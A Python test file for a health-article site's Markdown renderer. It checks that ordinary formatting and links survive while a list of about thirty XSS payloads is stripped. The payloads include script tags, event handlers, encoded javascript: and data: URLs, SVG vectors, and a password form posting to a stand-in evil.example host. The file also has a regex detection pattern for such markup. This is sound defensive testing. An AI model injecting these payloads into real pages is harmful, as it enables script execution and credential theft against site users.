"""The one Markdown renderer: ordinary Markdown survives, anything that could run code does not."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.models import Section
from articles.rendering import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<a href="#" onclick="alert(1)">click</a>',
    "<body onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](vbscript:msgbox(1))",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://example.org" target="_blank">ok</a>',
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|svg|form|input|button|object|embed|style|meta|body|math)\b"
    r"|\son\w+\s*="
    r"|style\s*="
    r"|(href|src)\s*=\s*\"?\s*(javascript|data|vbscript):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_nothing_that_could_run_code_survives(payload):
    html = render_markdown(payload)

    assert not DANGEROUS.search(html), html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_a_payload_among_ordinary_text_is_removed_too(payload):
    html = render_markdown(f"Before the payload.\n\n{payload}\n\nAfter the payload.")

    assert not DANGEROUS.search(html), html
    assert html.startswith("<p>Before the payload.</p>")


def test_links_open_without_giving_the_new_page_access_to_ours():
    html = render_markdown("See the [NHS page](https://www.nhs.uk/conditions/back-pain/).")

    assert html == (
        '<p>See the <a href="https://www.nhs.uk/conditions/back-pain/" '
        'rel="noopener noreferrer">NHS page</a>.</p>'
    )


def test_raw_links_also_get_the_rel_attribute():
    html = render_markdown('<a href="https://example.org" target="_blank">ok</a>')

    assert 'rel="noopener noreferrer"' in html
    assert "target" not in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("**bold** and *italic*", "<p><strong>bold</strong> and <em>italic</em></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("1. first\n2. second", "<ol>\n<li>first</li>\n<li>second</li>\n</ol>"),
        ("### When to get help", "<h3>When to get help</h3>"),
        ("> Quote", "<blockquote>\n<p>Quote</p>\n</blockquote>"),
        ("[Call 111](tel:111)", '<p><a href="tel:111" rel="noopener noreferrer">Call 111</a></p>'),
        (
            "![A stretch](/media/markdownx/a.png)",
            '<p><img alt="A stretch" src="/media/markdownx/a.png"></p>',
        ),
    ],
)
def test_ordinary_markdown_is_kept(markdown, expected):
    assert render_markdown(markdown) == expected


def test_the_token_for_the_emergency_number_is_left_for_display_time():
    assert render_markdown("Call {emergency_number}.") == "<p>Call {emergency_number}.</p>"


def test_saving_a_section_stores_the_sanitised_html(make_article):
    article = make_article(sections=0)

    section = Section.objects.create(
        article=article,
        heading="Danger",
        slug="danger",
        summary="A test.",
        body="Text <script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
    )

    assert not DANGEROUS.search(section.body_html)
    assert section.body_html.startswith("<p>Text")


@given(st.text(alphabet=st.sampled_from(list("<>/\"'=:;&# ajvscriptonlerdhf()[]!")), max_size=80))
def test_random_markup_never_produces_a_script_or_handler(text):
    assert not DANGEROUS.search(render_markdown(text))
